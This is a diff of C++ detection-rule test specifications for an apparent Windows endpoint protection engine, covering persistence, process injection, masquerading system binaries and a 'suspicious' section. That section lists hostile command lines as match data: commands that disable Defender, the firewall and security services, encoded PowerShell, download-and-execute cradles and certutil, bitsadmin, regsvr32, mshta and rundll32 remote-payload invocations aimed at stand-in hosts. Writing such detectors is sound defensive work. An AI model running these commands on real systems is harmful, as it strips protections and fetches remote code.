+         c.target = c.kind == kFileOpened ? R"(C:\Windows\x.com)" : R"(C:\Windows\x.log)";
+         c.executable = true;
+       }},
+       .quiet_targets = {R"(C:\Windows\WindowsUpdate.log)", R"(C:\Windows\Temp\x.exe)"}},
+      {.id = "system-file.windows-ini",
+       .kinds = kFileTouched,
+       .targets = {R"(C:\Windows\<win>.ini)"},
+       .rights = kFileRights},
+      {.id = "system-file.screensaver",
+       .kinds = kValueSet,
+       .targets = {R"(HKCU\Control Panel\Desktop)"},
+       .values = {"SCRNSAVE.EXE"},
+       .texts = {R"(C:\evil.scr)"},
+       .quiet_values = {"Wallpaper", "ScreenSaveActive"},
+       .quiet_texts = {""}},
+  };
+}
+
+std::vector<RuleSpecification> duplicated() {
+  const Texts misplaced = {R"(<=C:\Users\Public\>svchost.exe)", R"(<=C:\>bitsadmin.exe)", R"(<=D:\Data\>lsass.exe)",
+                           R"(<=\\srv\share\>explorer.exe)", R"(<=C:\Users\alice\>ntdll.dll)"};
+  const Texts genuine = {R"(C:\Windows\System32\svchost.exe)",
+                         R"(C:\Windows\SysWOW64\svchost.exe)",
+                         R"(C:\Windows\explorer.exe)",
+                         R"(C:\Windows\WinSxS\amd64_x\svchost.exe)",
+                         R"(C:\Windows\SoftwareDistribution\Download\x\svchost.exe)",
+                         "svchost.exe"};
+  return {
+      {.id = "duplicated.started",
+       .kinds = kStart,
+       .targets =
+           misplaced + Texts{R"(<=C:\Windows\System32\svchost.exe:evil.exe>)", R"(<=D:\Windows\System32\>cmd.exe)"},
+       .quiet_targets = genuine + Texts{R"(C:\Program Files\Git\usr\bin\find.exe)"}},
+      {.id = "duplicated.created", .kinds = kFileComes, .targets = misplaced, .quiet_targets = genuine},
+  };
+}
+
+std::vector<RuleSpecification> layered_provider() {
+  return {
+      {.id = "layered-provider.catalog",
+       .kinds = kAnyKeyArrival | kValueDeleted | kKeyDeleted,
+       .targets = {kServices + R"(WinSock2\Parameters\Protocol_Catalog9<<\Catalog_Entries\000000000012>>)"},
+       .values = {"<PackedCatalogItem>"},
+       .quiet_targets = {kServices + R"(WinSock2\Parameters\NameSpace_Catalog5)"}},
+  };
+}
+
+std::vector<RuleSpecification> system_process() {
+  const auto opened = [](const char* id, std::vector<std::uint32_t> rights) {
+    return RuleSpecification{.id = id,
+                             .kinds = kProcessOpened,
+                             .targets = prefixed("<=", kGuardedProcesses, ">"),
+                             .rights = std::move(rights),
+                             .actors = kOtherActors,
+                             .quiet_targets = kOtherProcesses,
+                             .quiet_actors = kSystemActors,
+                             // Rights to read and to ask are no modification.
+                             .quiet = {[](Case& c) { c.access = 0x1410; }, [](Case& c) { c.access = 0x40; }}};
+  };
+  return {
+      {.id = "system-process.thread",
+       .kinds = kThreadInjected,
+       .targets = prefixed("<=", kGuardedProcesses, ">"),
+       .texts = {"RtlUserThreadStart"},
+       .actors = kOtherActors,
+       .quiet_targets = kOtherProcesses,
+       .quiet_actors = kSystemActors},
+      opened("system-process.write", {0x8, 0x20}),
+      opened("system-process.inject", {0x2, 0x80}),
+      opened("system-process.terminate", {0x1}),
+      opened("system-process.debug", {0x800, 0x200, 0x40000, 0x80000}),
+      {.id = "system-process.terminated",
+       .kinds = kProcessTerminated,
+       .targets = prefixed("<=", kGuardedProcesses, ">"),
+       .actors = kOtherActors,
+       .quiet_targets = kOtherProcesses,
+       .quiet_actors = kSystemActors},
+  };
+}
+
+std::vector<RuleSpecification> suspicious() {
+  const Texts security_services = {"WinDefend", "WdNisSvc", "Sense",     "SecurityHealthService",
+                                   "wscsvc",    "mpssvc",   "BFE",       "EventLog",
+                                   "tmlisten",  "ntrtscan", "TMBMServer"};
+  const Texts powershells = {R"(<=C:\Windows\System32\WindowsPowerShell\v1.0\>powershell.exe)",
+                             R"(<=C:\Program Files\PowerShell\7\>pwsh.exe)"};
+  return {
+      {.id = "suspicious.copies-itself-from-temp",
+       .kinds = kFileComes,
+       .targets = {R"(C:\Windows\System32<<\evil>>\<evil>.exe)", R"(C:\Windows\SysWOW64<<\evil>>\<evil>.exe)"},
+       .actors = {R"(C:\Users\alice\AppData\Local\Temp\evil.exe)", R"(C:\Windows\Temp\evil.exe)"},
+       .matches = {[](Case& c) {
+         c.actor = R"(C:\renamed\since.exe)";
+         c.facts = kStartedFromTemp;
+       }},
+       .also = {"system-file.executable"},
+       .quiet_targets = {R"(C:\Windows\System32\notes.txt)"},
+       .quiet_actors = {R"(C:\Users\alice\Downloads\setup.exe)"},
+       .quiet = {[](Case& c) {
+         c.actor = R"(C:\Users\alice\Downloads\setup.exe)";
+         c.facts = kWroteToSystemFolder;
+       }}},
+      {.id = "suspicious.starts-its-copy",
+       .kinds = kValueSet,
+       .targets = in_both_hives(prefixed(kCurrent, {"Run", "RunOnce"})),
+       .values = {"<Updater>"},
+       .texts = {R"(C:\Windows\System32\evil.exe)"},
+       .facts = kStartedFromTemp | kWroteToSystemFolder,
+       .also = {"startup.run-key"},
+       .quiet = {[](Case& c) { c.facts = kStartedFromTemp; }, [](Case& c) { c.facts = kWroteToSystemFolder; }}},
+      {.id = "suspicious.autorun",
+       .kinds = kFileComes,
+       .targets = {R"(<E:>\autorun.inf)"},
+       .quiet_targets = {R"(E:\setup\autorun.inf)"}},
+      {.id = "suspicious.autorun-on-share",
+       .kinds = kFileComes,
+       .targets = {R"(\\<srv>\<share>\autorun.inf)"},
+       .quiet_targets = {R"(\\srv\share\setup\autorun.inf)"}},
+      {.id = "suspicious.deletes-itself",
+       .kinds = kFileDeleted,
+       .targets = {R"(<=C:\Users\alice\Downloads\setup.exe>)", R"(<=c:/users/ALICE/downloads/setup.exe>)"},
+       .quiet_targets = {R"(C:\Users\alice\Downloads\setup.tmp)"},
+       .quiet_actors = {R"(C:\Users\alice\Downloads\other.exe)", ""}},
+      {.id = "suspicious.has-itself-deleted",
+       .kinds = kStart,
+       .targets = Texts{R"(<=C:\Windows\System32\>cmd.exe)"} + powershells,
+       .texts = {R"(cmd.exe /c del "C:\Users\alice\Downloads\evil.exe")", "cmd /c ping -n 3 localhost & del evil.exe",
+                 "cmd /c erase EVIL.EXE"},
+       .creator = R"(C:\Users\alice\Downloads\evil.exe)",
+       .quiet_texts = {R"(cmd.exe /c C:\Users\alice\Downloads\evil.exe)", "cmd /c del other.exe"},
+       .quiet = {[](Case& c) { c.creator = R"(C:\Users\alice\Downloads\other.exe)"; }, [](Case& c) { c.creator = ""; },
+                 [](Case& c) {
+                   c.creator = R"(C:\Windows\System32\cmd.exe)";
+                   c.text = "cmd.exe /c \"cmd.exe /c del x\"";
+                 }}},
+      {.id = "suspicious.security-service-off",
+       .trust_settles = false,
+       .kinds = kValueSet,
+       .targets = prefixed(kServices, security_services),
+       .values = {"Start"},
+       .texts = {"4"},
+       .quiet_targets = {kServices + "BITS"},
+       .quiet_texts = {"2", "3", "14", "40"}},
+      {.id = "suspicious.security-service-command",
+       .kinds = kStart,
+       .targets = {R"(<=C:\Windows\System32\>sc.exe)", R"(<=C:\Windows\System32\>net.exe)",
+                   R"(<=C:\Windows\System32\>net1.exe)"},
+       .texts =
+           prefixed("sc  stop ", security_services) + Texts{R"(net stop "windefend")", "sc delete WinDefend",
+                                                            "sc config WinDefend start= disabled", "sc pause mpssvc"},
+       .quiet_texts = {"sc query mpssvc", "sc stop IKEEXT", "sc start mpssvc", "sc config mpssvc start= auto"}},
+      {.id = "suspicious.defender-off",
+       .trust_settles = false,
+       .kinds = kValueSet,
+       .targets = {R"(HKLM\Software\Microsoft\Windows Defender<<\Real-Time Protection>>)"},
+       .values = prefixed("Disable", {"AntiSpyware", "AntiVirus", "RealtimeMonitoring", "BehaviorMonitoring",
+                                      "OnAccessProtection", "IOAVProtection"}),
+       .texts = {"1"},
+       .quiet_values = {"DpaDisabled"},
+       .quiet_texts = {"0"}},
+      {.id = "suspicious.defender-command",
+       .kinds = kStart,
+       .targets = powershells,
+       .texts = {"powershell Set-MpPreference -DisableRealtimeMonitoring $true",
+                 R"(powershell Add-MpPreference -ExclusionPath C:\)"},
+       .matches = {original_name("PowerShell.EXE", R"(C:\Users\Public\ps.exe)")},
+       .quiet_texts = {"powershell Get-MpPreference", "powershell Set-MpPreference -ScanScheduleDay 0"}},
+      {.id = "suspicious.firewall-command",
+       .kinds = kStart,
+       .targets = {R"(<=C:\Windows\System32\>netsh.exe)"},
+       .texts = {"netsh advfirewall set allprofiles state off", "netsh firewall set opmode mode=disable",
+                 "netsh firewall set opmode disable"},
+       .quiet_texts = {"netsh advfirewall show allprofiles", "netsh advfirewall set allprofiles state on"}},
+      {.id = "suspicious.powershell-encoded",
+       .kinds = kStart,
+       .targets = powershells,
+       .texts = {"powershell -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBFAHIA",
+                 "powershell -exec bypass -e SQBuAHYAbwBrAGUALQBXAG0A",
+                 "pwsh -EncodedCommand \"SQBuAHYAbwBrAGUALQBXAG0A\"", "powershell /ec SQBuAHYAbwBrAGUALQBXAG0A",
+                 "powershell -c [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($x))"},
+       .matches = {original_name("PowerShell.EXE", R"(C:\Users\Public\ps.exe)"),
+                   original_name("PowerShell.EXE.MUI", R"(C:\Users\Public\ps.exe)")},
+       .quiet_texts = {"powershell -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1", "powershell -noprofile",
+                       "powershell -e short"}},
+      {.id = "suspicious.powershell-download",
+       .kinds = kStart,
+       .targets = powershells,
+       .texts = {"powershell IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')",
+                 "powershell $c.DownloadFile('http://x.test/a','a.exe')", "powershell $c.DownloadData($u)",
+                 "powershell New-Object System.Net.WebClient",
+                 "powershell Invoke-WebRequest http://x.test/a -OutFile a",
+                 "powershell Invoke-RestMethod http://x.test/a", "powershell iwr http://x.test/a",
+                 "powershell irm x.test", "powershell Start-BitsTransfer http://x.test/a",
+                 "powershell New-Object -ComObject MSXML2.XMLHTTP"},
+       .matches = {original_name("pwsh.dll", R"(C:\Program Files\PowerShell\7\pwsh.exe)")},
+       .quiet_texts = {R"(powershell -File C:\scripts\inventory.ps1)", "powershell Get-ChildItem"}},
+      {.id = "suspicious.certutil",
+       .kinds = kStart,
+       .targets = {R"(<=C:\Windows\System32\>certutil.exe)"},
+       .texts = {"certutil.exe  -urlcache -f https://x.test/a.yaml a.yaml", "certutil -split -verifyctl ftp://x.test/a",
+                 R"(certutil.exe -decode file.txt c:\file.exe)", "certutil /decodehex a b"},
+       .matches = {original_name("CertUtil.exe", R"(C:\Users\Public\tcm.tmp)")},
+       .quiet_texts = {R"(certutil -addstore -f root C:\cert.cer)", "certutil -encode file.bat file.base64",
+                       "certutil -urlcache"}},
+      {.id = "suspicious.bitsadmin",
+       .kinds = kStart,
+       .targets = {R"(<=C:\Windows\System32\>bitsadmin.exe)"},
+       .texts = {"bitsadmin  /transfer n https://x.test/a.dll C:\\Users\\Public\\a.dll",
+                 "bitsadmin /addfile job https://x.test/a C:\\a", "bitsadmin /addfileset job list",
+                 "bitsadmin /SetNotifyCmdLine job C:\\a.exe NULL"},
+       .quiet_texts = {"bitsadmin /list", "bitsadmin /create job", "bitsadmin /reset"}},
+      {.id = "suspicious.regsvr32",
+       .kinds = kStart,
+       .targets = {R"(<=C:\Windows\System32\>regsvr32.exe)"},
+       .texts = {R"(regsvr32 /s /n /u /i:http://10.10.10.5:8444/launcher.sct vendor.dll)",
+                 R"(regsvr32 /s /u /i:C:\atomics\RegSvr32.sct scrobj.dll)",
+                 R"(regsvr32 /s /i:\\srv\share\a.sct x.dll)"},
+       .quiet_texts = {R"(regsvr32 /s C:\Program Files\Vendor\x.dll)", "regsvr32 /s /i:user x.dll"}},
+      {.id = "suspicious.mshta",
+       .kinds = kStart,
+       .targets = {R"(<=C:\Windows\System32\>mshta.exe)"},
+       .texts = {"mshta http://x.test/a.hta", "mshta javascript:a=1;close()", "mshta vbscript:Close(1)",
+                 "mshta about:x", R"(mshta C:\Users\alice\Downloads\invoice.hta)",
+                 R"(mshta C:\Users\alice\AppData\Local\Temp\a.hta)"},
+       .quiet_texts = {R"(mshta C:\Program Files\Vendor\setup.hta)"}},
+      {.id = "suspicious.rundll32",
+       .kinds = kStart,
+       .targets = {R"(<=C:\Windows\System32\>rundll32.exe)"},
+       .texts = {R"(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";x)", "rundll32 vbscript:x",
+                 R"(rundll32.exe  '\\\\172.16.205.1\\pwn\\test.dll,0')", R"(rundll32 \\srv\share\x.dll,a)",
+                 "rundll32 url.dll,OpenURL http://x.test/"},
+       .quiet_texts = {R"(C:\Windows\system32\rundll32.exe Startupscan.dll,SusRunTask)",
+                       R"("C:\windows\system32\rundll32.exe" Shell32.dll,Control_RunDLL C:\ProgramData\calc.cpl)"}},
+      {.id = "suspicious.script-host",
+       .kinds = kStart,
+       .targets = {R"(<=C:\Windows\System32\>wscript.exe)", R"(<=C:\Windows\System32\>cscript.exe)"},
+       .texts = {R"(wscript C:\Users\alice\AppData\Local\Temp\invoice.js)",
+                 R"(wscript "C:\Users\alice\Downloads\a.vbs")", R"(cscript C:\tmp\a.js)",
+                 "cscript pubprn.vbs localhost script:https://x.test/a"},
+       .quiet_texts = {R"(C:\Windows\system32\cscript.exe C:\Windows\system32\gatherNetworkInfo.vbs)",
+                       R"("C:\windows\system32\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs")"}},
+      {.id = "suspicious.wmic-stylesheet",
+       .kinds = kStart,
+       .targets = {R"(<=C:\Windows\System32\wbem\>WMIC.exe)"},
+       .texts = {R"(wmic process list /FORMAT:"https://x.test/a.xsl")", R"(wmic os get /format:\\srv\share\a.xsl)"},
+       .quiet_texts = {"wmic process get caption /format:csv", "wmic qfe list"}},
+  };
+}
+
+void append(std::vector<RuleSpecification>& all, v1::MonitoredEvent event, std::vector<RuleSpecification> rules) {
+  for (RuleSpecification& rule : rules) {
+    if (rule.event == v1::MONITORED_EVENT_UNSPECIFIED) rule.event = event;
+    all.push_back(std::move(rule));
+  }
+}
+
+}  // namespace
+
+const std::vector<RuleSpecification>& rule_specifications() {
+  static const std::vector<RuleSpecification> all = [] {
+    std::vector<RuleSpecification> rules;
+    append(rules, v1::NEW_STARTUP_PROGRAM, startup());
+    append(rules, v1::HOSTS_FILE_MODIFICATION, hosts());
+    append(rules, v1::PROGRAM_LIBRARY_INJECTION, library_injection());
+    append(rules, v1::INTERNET_EXPLORER_SETTING_MODIFICATION, internet_explorer());
+    append(rules, v1::SHELL_MODIFICATION, shell());
+    append(rules, v1::NEW_SERVICE, services());
+    append(rules, v1::SECURITY_POLICY_MODIFICATION, security_policy());
+    append(rules, v1::FIREWALL_POLICY_MODIFICATION, firewall());
+    append(rules, v1::SYSTEM_FILE_MODIFICATION, system_files());
+    append(rules, v1::DUPLICATED_SYSTEM_FILE, duplicated());
+    append(rules, v1::LAYERED_SERVICE_PROVIDER, layered_provider());
+    append(rules, v1::SYSTEM_PROCESS_MODIFICATION, system_process());
+    append(rules, v1::SUSPICIOUS_BEHAVIOR, suspicious());
+    return rules;
+  }();
+  return all;
+}
+
+}  // namespace holdfast::engine
